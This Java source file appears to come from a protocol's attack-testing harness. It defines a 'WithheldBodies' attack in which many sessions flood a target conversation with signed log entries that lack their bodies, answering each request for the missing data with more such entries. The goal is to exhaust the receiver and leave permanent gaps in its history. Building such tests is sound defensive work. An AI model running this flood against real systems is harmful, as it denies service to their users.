package io.landline.attack;

import io.landline.frame.Frame;
import io.landline.frame.FrameType;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicInteger;

/// Rightly signed entries without their bodies, as fast as TCP takes them: unasked, and as the answer to each request
/// for what is missing. A receiver that believed them would have holes in its history, and ask for them for ever.
///
/// @param people who send; in an open room each may be invented
record WithheldBodies(int people) implements Attack {
    private static final int BODY_BYTES = 16_300;
    private static final int ENTRIES_A_FRAME = 500;
    private static final int ENTRIES_OF_A_LOG = 5_000;

    @Override
    public void run(Target target, Runnable begun) throws InterruptedException {
        Crowd.run(target, people, begun, session -> flood(target, session));
    }

    private static void flood(Target target, HostileSession session) throws IOException {
        var asked = new AtomicInteger();
        session.hear(frame -> hear(frame, asked));
        byte[] body = HostileLog.text(BODY_BYTES);
        while (true) {
            var log = new HostileLog(session.identity, target.conversation(), ThreadLocalRandom.current().nextLong());
            for (int sent = 0; sent < ENTRIES_OF_A_LOG; sent += ENTRIES_A_FRAME) {
                List<byte[]> run = new ArrayList<>();
                if (sent == 0) run.add(log.next(HostileLog.TEXT, body)); // so that the log is worth asking for
                while (run.size() < ENTRIES_A_FRAME) run.add(log.nextWithheld(HostileLog.TEXT, body));
                int request = asked.getAndSet(0);
                session.send(FrameType.ENTRIES, HostileLog.frame(request, target.conversation(), run));
            }
        }
    }

    private static void hear(Frame frame, AtomicInteger asked) {
        if (frame.type() == FrameType.WANT) asked.set(ByteBuffer.wrap(frame.body()).getInt());
    }
}
